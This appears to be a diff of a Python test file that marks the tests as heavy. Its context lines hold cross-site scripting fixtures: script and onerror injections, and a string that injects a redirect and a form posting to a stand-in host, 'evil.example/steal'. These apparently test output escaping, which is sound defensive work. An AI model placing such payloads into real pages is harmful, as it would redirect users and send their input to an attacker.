@@ -36,6 +36,8 @@ from tests.helpers.league_episodes import rows, set_one, set_two, smoke, write
 from tests.helpers.modules import LAYERS, modules
 from tests.helpers.study_runs import study_runs_of
 
+pytestmark = pytest.mark.heavy
+
 TAG = '"><meta http-equiv="refresh" content="0;url=https://evil.example/"><form action="https://evil.example/steal">'
 TEXT = "</script><script>alert(1)</script><img src=x onerror=alert(1)>&lt;"
 POLICY = 'policy:models/$x_$ "><script><img src=x onerror=alert(1)>&lt;\u2028'
